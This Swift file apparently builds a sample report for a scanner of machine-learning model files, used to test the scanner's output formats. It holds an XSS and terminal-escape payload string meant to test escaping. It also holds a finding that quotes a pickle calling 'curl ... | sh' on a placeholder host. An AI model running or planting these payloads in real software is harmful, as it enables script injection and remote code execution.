import AssayCore
import ByteParsing
import Reporting
import Scanning

/// A report with one of everything, and text that wants to break out of each format.
enum SampleReport {
    static let hostile =
        "</script><img src=x onerror=alert(1)> & \"quotes\" ']]> \u{1B}[31mred\u{7}\u{202E}evil | `tick`"

    /// Rules of the sample's own: the shipped ones change.
    static let catalogue = RuleCatalogue([
        ByteRegion(
            Array(
                """
                {"family": "Sample", "rules": [
                  {"id": "SAMPLE-EXECUTION", "title": "Runs code when loaded", "severity": "critical",
                   "explanation": "Loading the file calls a function that runs commands of the file's choice.",
                   "remedy": "Do not load it. Ask its author for weights without code.",
                   "cwe": ["CWE-502"], "atlas": ["AML.T0010.003"], "nist": ["Supply Chain"], "cve": ["CVE-2025-1550"]},
                  {"id": "SAMPLE-MALFORMED", "title": "Malformed content", "severity": "low",
                   "explanation": "The bytes claim to be of a format and break its rules.",
                   "remedy": "Get the file again from its source.",
                   "cwe": ["CWE-20"], "atlas": ["AML.T0010.003"], "nist": ["Supply Chain"]},
                  {"id": "SAMPLE-INCOMPLETE", "title": "Content was not read to its end", "severity": "low",
                   "explanation": "A limit was reached before all of the content was judged.",
                   "remedy": "Raise the limit that it names, or treat the file as unsafe.",
                   "cwe": ["CWE-693"], "atlas": ["AML.T0076"], "nist": ["Supply Chain"]}
                ]}
                """.utf8))
    ])

    static var report: ScanReport {
        var report = ScanReport(version: "0.1.0", files: [clean, failing, low, incomplete, unreadable, suppressed])
        report.excluded = 4
        report.catalogue = catalogue
        report.notices = [
            "assay.yaml:12: the suppression of SAMPLE-MALFORMED expired on 2026-10-31 and no longer counts"
        ]
        return report
    }

    private static let clean = ScanReport.File(
        FileReport(path: "models/weights.safetensors", format: "safetensors", size: 268_435_904))

    private static let failing = ScanReport.File(
        FileReport(
            path: "models/bert/pytorch_model.bin", format: "pytorch-zip", size: 438_012_345,
            findings: [
                Finding(
                    rule: "SAMPLE-EXECUTION", severity: .critical,
                    message: "Loading calls posix.system with 'curl -s https://example.test/x | sh'",
                    location: Location(members: ["archive/data.pkl"], offset: 31, detail: "REDUCE"),
                    details: [
                        .init("callable", "posix.system"), .init("arguments", "'curl -s https://example.test/x | sh'"),
                    ]),
                Finding(
                    rule: "SAMPLE-MALFORMED", severity: .medium, message: "a name that wants out: " + hostile,
                    location: Location(members: ["archive.tar", hostile], offset: 4_096), occurrences: 1_204),
            ],
            digest: Digest(hexadecimal: String(repeating: "ab", count: 32))))

    private static let low = ScanReport.File(
        FileReport(
            path: "models/a b/tokenizer#1.json", format: "json", size: 1_536,
            findings: [
                Finding(
                    rule: "SAMPLE-MALFORMED", severity: .low, message: "json: malformed while reading JSON object",
                    location: Location(offset: 17))
            ]))

    private static let incomplete = ScanReport.File(
        FileReport(
            path: "models/deep.zip", format: "zip", size: 42_000,
            findings: [
                Finding(
                    rule: "SAMPLE-INCOMPLETE", severity: .low,
                    message: "content nested more than 16 deep was not opened",
                    location: Location(members: ["1.zip", "2.zip"]))
            ], incomplete: ["content nested more than 16 deep was not opened"]))

    private static let unreadable = ScanReport.File(
        FileReport(path: "models/secret.bin", error: "Permission denied"))

    private static let suppressed = ScanReport.File(
        FileReport(path: "models/old.pkl", format: "pickle", size: 90),
        suppressed: CalendarDate("2027-01-31").map { day in
            [
                SuppressedFinding(
                    Finding(
                        rule: "SAMPLE-MALFORMED", severity: .high, message: "pickle: truncated while reading opcode"),
                    source: .policy, reason: "kept as a regression test", expires: day)
            ]
        } ?? [])
}
